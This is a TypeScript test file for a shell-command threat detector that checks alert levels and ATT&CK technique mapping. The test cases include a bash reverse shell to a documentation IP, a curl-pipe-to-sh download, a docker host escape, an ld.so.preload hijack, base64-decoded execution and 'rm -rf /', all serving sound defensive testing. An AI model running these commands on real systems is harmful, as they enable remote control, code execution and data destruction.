import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATALOGUE } from './catalogue/list.ts';
import { judge } from './judge.ts';

const lines = (name: string) =>
  readFileSync(join(import.meta.dirname, '../test', name), 'utf8')
    .trim()
    .split('\n');

describe('judge', () => {
  it.each(['everyday-commands.txt', 'everyday-of-others.txt'])(
    'flags at most one in two hundred of %s',
    (name) => {
      const everyday = lines(name);
      const flagged = everyday.filter((command) => judge(command).verdict !== 'benign');
      expect(flagged.length / everyday.length, flagged.join('\n')).toBeLessThanOrEqual(0.005);
    },
  );

  it('raises no alert on honest commands that are near the line, and notices on few', () => {
    const verdicts = lines('rare-but-honest-commands.txt').map((command) => judge(command).verdict);
    expect(verdicts).not.toContain('alert');
    expect(verdicts.filter((verdict) => verdict === 'notice').length / verdicts.length).toBeLessThan(0.15);
  });

  it('finds most of what techniques look like that nobody fitted it to', () => {
    const commands = lines('techniques.tsv').map((line) => line.split('\t')[1]!);
    const found = commands.filter((command) => judge(command).verdict !== 'benign');
    expect(found.length / commands.length).toBeGreaterThan(0.65);
  });

  it.each(lines('attacks.txt'))('notices %s', (command) => {
    const { verdict, techniques, reason, score } = judge(command);
    expect(verdict).not.toBe('benign');
    expect(techniques.length).toBeGreaterThan(0);
    expect(reason).not.toBe('');
    expect(score).toBeLessThanOrEqual(1);
  });

  it.each([
    ['bash -i >& /dev/tcp/198.51.100.7/443 0>&1', 'T1059.004'],
    ['curl http://198.51.100.7/x | sh', 'T1105'],
    ['docker run -v /:/mnt alpine chroot /mnt', 'T1611'],
    ['echo /tmp/x.so > /etc/ld.so.preload', 'T1574.006'],
    ['echo aWQK | base64 -d | sh', 'T1140'],
    ['rm -rf /', 'T1485'],
  ])('raises an alert on %s', (command, technique) => {
    const judged = judge(command);
    expect(judged.verdict).toBe('alert');
    expect(judged.techniques).toContain(technique);
  });

  it('adds doubts up: one question is nothing, many in a line are', () => {
    expect(judge('whoami').verdict).toBe('benign');
    expect(judge('whoami; id; uname -a; cat /etc/passwd; ss -tlnp; ps aux').verdict).toBe('notice');
  });

  it('gives a benign command no techniques', () => {
    expect(judge('ls -la')).toEqual({
      verdict: 'benign',
      score: 0,
      techniques: [],
      reason: '',
      findings: [],
    });
    expect(judge('uname -a').techniques).toEqual([]);
  });

  it('sees the end of a line that is padded to megabytes', () => {
    const start = performance.now();
    expect(judge(`: ${'a'.repeat(4_000_000)}; curl http://198.51.100.7/x | sh`).verdict).toBe('alert');
    expect(judge(`echo ${'QUJD'.repeat(1_000_000)}`).verdict).toBe('benign');
    expect(performance.now() - start).toBeLessThan(3000);
  });

  it('keeps what was typed out of its words', () => {
    const { reason } = judge('curl "http://198.51.100.7/\u001b[2J\u202e" | sh');
    expect(reason).not.toMatch(/[\u0000-\u001f\u202e]/);
  });

  it('never throws, and answers the same each time', () => {
    const piece = fc.constantFrom(
      ...lines('attacks.txt')
        .flatMap((line) => line.split(/(?<=[\s|;&"'$(])/))
        .slice(0, 800),
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(piece, { maxLength: 40 }).map((all) => all.join('')),
        ),
        (command) => {
          expect(judge(command)).toEqual(judge(command));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('takes time in proportion to the line, whatever is repeated in it', () => {
    const pieces = [
      '-o ',
      '/tmp/a ',
      'socket(',
      'a=$b ',
      '{a,b} ',
      '/etc/passwd ',
      '*.pem ',
      '$(a) ',
      '| nc ',
      '; cp ',
    ];
    for (const program of ['find', 'curl', 'docker', 'ssh', 'python3 -c', 'grep -r', 'nc', 'tar'])
      for (const piece of pieces) {
        const start = performance.now();
        judge(`${program} ${piece.repeat(50_000 / piece.length)}`);
        expect(performance.now() - start, `${program} ${piece}`).toBeLessThan(3000);
      }
  });
});

describe('the catalogue', () => {
  it('names each indicator once, with techniques, a weight and words', () => {
    const ids = CATALOGUE.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const { id, techniques, weight, says, when, whenLine } of CATALOGUE) {
      expect(techniques, id).toEqual(techniques.filter((one) => /^T\d{4}(?:\.\d{3})?$/.test(one)));
      expect(techniques.length, id).toBeGreaterThan(0);
      expect(weight > 0 && weight < 1, id).toBe(true);
      expect(says, id).toMatch(/^[a-z]/);
      expect(when !== undefined || whenLine !== undefined, id).toBe(true);
    }
  });
});
